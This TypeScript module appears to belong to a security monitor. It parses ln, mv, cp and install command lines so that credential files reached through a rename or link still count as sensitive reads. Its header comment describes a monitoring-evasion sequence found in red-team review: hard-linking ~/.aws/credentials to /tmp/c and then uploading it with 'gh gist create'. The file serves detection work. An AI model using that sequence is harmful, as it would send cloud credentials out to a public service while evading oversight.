/**
 * A file renamed or linked under another name is read later by that name, which says nothing: `ln
 * ~/.aws/credentials /tmp/c` (a hard link: no read at all) or `mv` it, then `gh gist create /tmp/c` reads
 * `/tmp/c`. Found by red-team review: that push was `low` where reading the file directly makes it `high`.
 * The link's own command line names the source, so a sensitive source counts as a sensitive access by the
 * process that linked it (engine.ts onExec). `cp` is here too: `cp --reflink`/`-l` copy without a read.
 * A link made without an exec (`os.link()` in a script) is not seen.
 */

import { basename, tokenize } from '../rules/argv.js';
import { appletOf, MULTI_CALL } from '../rules/launchers.js';

const RELINKERS = new Set(['ln', 'link', 'mv', 'cp', 'install']);
/**
 * `install SRC DEST` copies as `cp` does (`install -m 600 token /workspace/t`); its `-m`, `-o`, `-g` take a
 * value, and `-d` makes directories of every word, copying nothing.
 */
const INSTALL_VALUE_OPTIONS: ReadonlyArray<[string, number]> = [
  ['--mode', 3],
  ['--owner', 3],
  ['--group', 3],
  ['--strip-program', 9],
];

/**
 * What a `ln`/`link`/`mv`/`cp`/`install` command line names: its sources (made absolute from `/` when relative) and
 * where they go, when given as an absolute path (a relative one depends on a working directory the sensors
 * do not show); `intoDirectory`: the destination is a directory the sources go into (`-t DIR`, a trailing
 * `/`, several sources), else it may be the new name itself.
 */
export interface Relink {
  sources: string[];
  target: string | null;
  intoDirectory: boolean;
  /**
   * The sources can only be files (`cp` without `-r`/`-R`/`-a`, `install`): a target that is no new name is a
   * directory they went into, never a directory copied whole, so nothing below it but their own names is theirs.
   */
  filesOnly: boolean;
}

const NO_RELINK: Relink = { sources: [], target: null, intoDirectory: false, filesOnly: false };

export function relinked(binary: string | null, args: string | null): Relink {
  // Called for every exec: the name is checked before any argv is split.
  const name = basename(binary);
  const program = MULTI_CALL.has(name) ? appletOf({ binary, args }) : { binary, args };
  const tool = program === null ? '' : basename(program.binary);
  if (program === null || !RELINKERS.has(tool)) return NO_RELINK;
  const install = tool === 'install';
  const words = tokenize(program.args);
  const positionals: string[] = [];
  let targetGiven = false;
  let targetDir: string | null = null;
  let recursive = false;
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (w === '--') {
      positionals.push(...words.slice(i + 1));
      break;
    }
    if (w.length < 2 || w[0] !== '-') positionals.push(w);
    else if (w[1] === '-') {
      // getopt_long takes any unambiguous prefix: `--t`…`--target-directory`, `--su`…`--suffix` (found by
      // review: `--target=/tmp` made the source the destination).
      const eq = w.indexOf('=');
      const name = eq < 0 ? w : w.slice(0, eq);
      const target = name.length >= 3 && '--target-directory'.startsWith(name);
      if (target) {
        targetGiven = true;
        targetDir = eq < 0 ? (words[i + 1] ?? null) : w.slice(eq + 1);
      }
      if (install && name.length >= 4 && '--directory'.startsWith(name)) return NO_RELINK;
      if ((name.length >= 5 && '--recursive'.startsWith(name)) || (name.length >= 4 && '--archive'.startsWith(name)))
        recursive = true;
      const valued = install && INSTALL_VALUE_OPTIONS.some(([o, min]) => name.length >= min && o.startsWith(name));
      if ((target || valued || (name.length >= 4 && '--suffix'.startsWith(name))) && eq < 0) i++;
    } else {
      // Short options bundle (`-ft DIR`, `-ft/dir`, `-bS .old`): `-t` and `-S` take the rest or the next word
      // (install's `-m`, `-o`, `-g` too: `-m600`, `-m 600`).
      for (let j = 1; j < w.length; j++) {
        const letter = w[j]!;
        if (install && letter === 'd') return NO_RELINK;
        if (letter === 'r' || letter === 'R' || letter === 'a') recursive = true;
        if (letter !== 't' && letter !== 'S' && !(install && 'mog'.includes(letter))) continue;
        if (letter === 't') {
          targetGiven = true;
          targetDir = j === w.length - 1 ? (words[i + 1] ?? null) : w.slice(j + 1);
        }
        if (j === w.length - 1) i++;
        break;
      }
    }
  }
  // `ln SRC` links into the working directory; otherwise the last word is the destination.
  const named = targetGiven || positionals.length === 1;
  const sources = named ? positionals : positionals.slice(0, -1);
  const target = targetGiven ? targetDir : named ? null : (positionals[positionals.length - 1] ?? null);
  return {
    sources: sources.map((p) => (p.startsWith('/') ? p : `/${p.replace(/^(?:\.\/)+/, '')}`)),
    target: target?.startsWith('/') ? target.replace(/\/+$/, '') || null : null,
    intoDirectory: targetGiven || sources.length > 1 || (target?.endsWith('/') ?? false),
    filesOnly: install || (tool === 'cp' && !recursive),
  };
}
